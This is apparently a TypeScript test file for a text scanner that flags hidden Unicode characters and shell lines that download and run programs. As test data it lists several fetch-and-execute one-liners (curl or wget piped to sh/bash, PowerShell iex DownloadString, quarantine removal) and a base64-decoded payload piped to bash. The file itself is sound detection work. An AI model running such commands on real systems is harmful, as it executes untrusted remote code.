import assert from "node:assert/strict";
import { test } from "node:test";
import { examineText } from "./examine-text.ts";

const kinds = (text: string): string[] => examineText(text).map(({ kind, line }) => `${kind}:${line}`);

test("characters nobody sees are a sign; emoji and scripts that need joiners are not (C12)", () => {
  assert.deepEqual(kinds("plain\nzero\u200bwidth\n"), ["hidden characters:2"]);
  assert.deepEqual(kinds("tags \u{e0041}\u{e0042}"), ["hidden characters:1"]);
  assert.deepEqual(kinds("turned \u202eround\u202c"), ["hidden characters:1"]);
  assert.deepEqual(kinds("\ufeff# begins with a mark of its encoding"), []);
  assert.deepEqual(kinds("Ada 👩\u200d🔬 and می\u200cخواهم"), []);
});

test("a line that fetches a program and runs it is a sign; one that only fetches is not (C12)", () => {
  for (const line of [
    "curl -fsSL https://x.invalid/i | sh", "wget -qO- x.invalid/i | sudo bash", "bash -c \"$(curl -s x.invalid)\"",
      "bash <(curl -s x.invalid)",
    "iex (New-Object Net.WebClient).DownloadString('x')", "curl -o a x.invalid && chmod +x a", "xattr -d com.apple.quarantine a",
  ]) assert.deepEqual(kinds(line), ["download and run:1"], line);
  assert.deepEqual(kinds("echo aGk= | base64 -d | bash"), ["encoded program:1"]);
  for (const line of ["curl https://example.invalid/data.json", "pipe | sh is a bad habit",
    "fetch the mail"]) assert.deepEqual(kinds(line), [], line);
});
